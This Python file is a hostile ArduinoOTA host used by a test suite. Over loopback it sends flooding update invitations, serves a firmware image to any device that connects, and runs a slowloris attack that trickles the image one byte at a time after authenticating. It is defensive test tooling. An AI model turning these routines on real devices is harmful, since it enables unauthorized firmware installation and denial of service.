# SPDX-License-Identifier: MIT
"""A hostile ArduinoOTA host, run as its own process by test_attacker.py. It binds the address
it is given (127.0.0.x), talks to the device over loopback, and prints one JSON line of what it
saw when it ends.

Modes:
  invite     send the invitation for IMAGE, naming its own TCP listener, every PERIOD seconds
             (0: as fast as the loop goes) from one UDP socket, never answering a challenge. If
             the device ever connects to its listener, it serves IMAGE (so a hijacked device
             would install it) and records that it did.
  slowloris  invite, answer the challenge (with --password), accept the device's connection,
             then send IMAGE one byte every PERIOD seconds until the device closes.

usage: attacker.py MODE --device PORT --bind ADDR --image FILE [--period S] [--duration S]
                   [--password PW]
"""

import argparse
import hashlib
import json
import os
import select
import socket
import sys
import time

import pyclient


def listener(bind):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((bind, 0))
    s.listen(4)
    s.setblocking(False)
    return s


def invitation(tcp_port, image):
    return ("0 %d %d %s\n" % (tcp_port, len(image), hashlib.md5(image).hexdigest())).encode()


def serve(conn, image, report):
    """The device connected to us: hand it our image, read what it says."""
    report["connections"] += 1
    conn.settimeout(10)
    text = b""
    try:
        conn.sendall(image)
        while True:
            b = conn.recv(4096)
            if not b:
                break
            text += b
    except OSError as e:
        report["serve_error"] = str(e)
    conn.close()
    report["served_text"] = pyclient.split_trailer(text.decode("latin-1"))


def run_invite(a, image, report):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((a.bind, 0))
    udp.setblocking(False)
    tcp = listener(a.bind)
    inv = invitation(tcp.getsockname()[1], image)
    report.update(sent=0, replies={}, connections=0)
    end = time.monotonic() + a.duration
    next_send = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_send:
            try:
                udp.sendto(inv, ("127.0.0.1", a.device))
                report["sent"] += 1
            except BlockingIOError:
                pass
            next_send = now + a.period
        wait = max(0.0, min(next_send, end) - time.monotonic())
        r, _, _ = select.select([udp, tcp], [], [], wait)
        if udp in r:
            while True:
                try:
                    dg = udp.recv(256).decode("latin-1")
                except (BlockingIOError, ConnectionRefusedError):
                    break
                kind = dg.split(" ", 1)[0].rstrip("\n") if dg else "(empty)"
                report["replies"][kind] = report["replies"].get(kind, 0) + 1
        if tcp in r:
            try:
                conn, _ = tcp.accept()
            except BlockingIOError:
                continue
            conn.setblocking(True)
            serve(conn, image, report)


def run_slowloris(a, image, report):
    """Authenticate (if asked), accept the connection, then trickle."""
    tcp = listener(a.bind)
    tcp.setblocking(True)
    tcp.settimeout(10)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((a.bind, 0))
    udp.settimeout(5)
    udp.sendto(invitation(tcp.getsockname()[1], image), ("127.0.0.1", a.device))
    reply = udp.recv(256).decode("latin-1")
    if reply.startswith("AUTH "):
        nonce = reply.split()[1]
        cnonce = os.urandom(len(nonce) // 2).hex()
        resp = pyclient.auth_response(a.password, nonce, cnonce)
        udp.sendto(("200 %s %s\n" % (cnonce, resp)).encode(), ("127.0.0.1", a.device))
        reply = udp.recv(256).decode("latin-1")
    report["handshake"] = reply
    if reply != "OK":
        return
    conn, _ = tcp.accept()
    conn.setblocking(False)
    t0 = time.monotonic()
    text = b""
    sent = 0
    closed = False
    while not closed and time.monotonic() - t0 < a.duration and sent < len(image):
        try:
            conn.send(image[sent:sent + 1])
            sent += 1
        except OSError:
            closed = True
            break
        stop = time.monotonic() + a.period
        while time.monotonic() < stop:
            r, _, _ = select.select([conn], [], [], max(0.0, stop - time.monotonic()))
            if not r:
                continue
            try:
                b = conn.recv(4096)
            except OSError:
                b = b""
            if not b:
                closed = True
                break
            text += b
    report.update(sent=sent, closed=closed, held_s=round(time.monotonic() - t0, 2),
                  tcp_text=pyclient.split_trailer(text.decode("latin-1")))
    conn.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["invite", "slowloris"])
    p.add_argument("--device", type=int, required=True)
    p.add_argument("--bind", required=True)
    p.add_argument("--image", required=True)
    p.add_argument("--period", type=float, default=0.0)
    p.add_argument("--duration", type=float, default=5.0)
    p.add_argument("--password", default=None)
    a = p.parse_args()
    with open(a.image, "rb") as f:
        image = f.read()
    report = {"mode": a.mode, "bind": a.bind}
    try:
        if a.mode == "invite":
            run_invite(a, image, report)
        else:
            run_slowloris(a, image, report)
    except (OSError, ValueError) as e:
        report["error"] = "%s: %s" % (type(e).__name__, e)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
